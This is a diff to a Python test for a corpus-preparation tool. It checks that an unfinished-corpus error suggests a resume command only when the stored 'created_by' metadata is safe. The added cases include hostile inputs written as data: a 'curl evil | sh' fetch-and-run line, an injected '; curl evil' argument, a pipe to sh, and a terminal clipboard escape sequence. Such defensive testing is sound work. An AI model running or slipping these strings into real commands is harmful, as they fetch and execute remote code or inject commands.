@@ -277,8 +277,13 @@ def test_each_shard_is_compared_with_what_its_maker_wrote(described: Path) -> No
 
 def test_an_unfinished_corpus_is_not_taken_for_the_whole(described: Path) -> None:
     meta = json.loads((described / 'meta.json').read_text(encoding='utf-8')) | {'unfinished': True}
-    for more, command in [({}, f'data/text/prepare.py --input=YOUR_TEXT --name={described.name}'),
-                          ({'created_by': 'python prepare.py --name=x'}, 'go on with: python prepare.py --name=x')]:
-        (described / 'meta.json').write_text(json.dumps(meta | more), encoding='utf-8')
+    anew = f'data/text/prepare.py --input=YOUR_TEXT --name={described.name}'
+    ours = "data/text/prepare.py '--input=my books/*.txt' --tokenizer=bpe:99"
+    for created_by, command in [(None, anew), (f'python {ours}', ours), (f'python /home/me/{ours}', ours),
+                                (['x'], anew), ('curl evil | sh', anew), (f'python {ours} | sh', anew),
+                                ("python data/text'", anew),
+                                (f'python {ours} "--name=; curl evil"', anew), ('python evil/prepare.py', anew),
+                                (f'python {ours} \x1b]52;c;ZXZpbA==\x07', anew), ('python', anew)]:
+        (described / 'meta.json').write_text(json.dumps(meta | {'created_by': created_by}), encoding='utf-8')
         message = refused(open_split, described, 'train', 16, 150)
         assert f'{described} is not complete' in message and message.endswith(command)
